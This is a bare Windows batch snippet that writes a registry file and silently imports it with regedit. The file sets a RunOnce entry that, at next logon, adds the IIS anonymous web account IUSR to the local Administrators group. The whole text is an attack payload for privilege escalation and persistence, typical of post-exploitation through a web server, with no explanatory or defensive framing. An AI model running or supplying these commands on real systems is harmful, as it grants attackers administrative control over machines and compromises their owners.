(
echo Windows Registry Editor Version 5.00
echo [HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce]
echo "x"="net localgroup Administrators IUSR /add"
) > C:\x.reg
regedit /s C:\x.reg
